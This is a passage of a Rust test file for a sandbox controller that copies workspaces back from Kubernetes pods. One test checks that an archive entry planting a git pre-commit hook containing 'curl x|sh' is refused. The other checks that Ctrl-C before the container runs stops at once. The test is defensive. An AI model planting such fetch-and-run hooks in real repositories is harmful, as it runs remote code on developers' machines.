            &[("notes.md", "evil"), (".git/hooks/pre-commit", "curl x|sh")],
            None,
        )),
        ..endless_run()
    };
    let d = drive(script, Duration::from_secs(30), 1).await;
    let message = refusal(&d);
    assert!(
        message.starts_with("the workspace was not copied back from pod psb-run1-pod: the workspace archive's entry .git/hooks/pre-commit is refused: it is a protected path"),
        "{message}"
    );
    assert!(message.contains("nothing of it is written"), "{message}");
    assert_unchanged(d.workspace.path());
    assert!(!d.workspace.path().join(".git/hooks").exists());
    assert_stopped_then_copied_back_then_removed(&d.fake);
}

#[tokio::test]
async fn ctrl_c_before_the_runtime_runs_stops_at_once_with_nothing_to_bring_back() {
    // The workspace went in, the runtime's container is still being created: nothing ran, so
    // Ctrl-C asks for nothing and the controller stops at once.
    let script = Script {
        waiting: Some("ContainerCreating".into()),
        ..endless_run()
    };
    let (api, fake) = FakeCluster::start(script);
    let backend = backend(api, &fake);
    let workspace = workspace();
    let plan = pinned_plan(workspace.path());
    let (output, _writer) = Output::spawn(Mode::Json, tokio::io::sink());
    let limit = TimeLimit {
        started: Instant::now(),
        limit: Duration::from_secs(30),
    };
    let tap = |_: &str, _: &Event| {};
    let ids = ids();
    // Asked while the run is under way (a dropped run is disarmed whatever it was).
    let ctrl_c = async {
        while !fake.calls().iter().any(|c| c.starts_with("ATTACH ")) {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
        backend.interrupt(&plan).await.expect("asked")
    };
    let stopping = tokio::select! {
        ended = backend.execute(&plan, &ids, &output, false, limit, &tap) => {
            panic!("the runtime never starts: {ended:?}")
        }
        stopping = ctrl_c => stopping,
    };
    assert_eq!(stopping, Stopping::Nothing);
    assert!(!fake.calls().iter().any(|c| c.starts_with("EXEC ")));
}
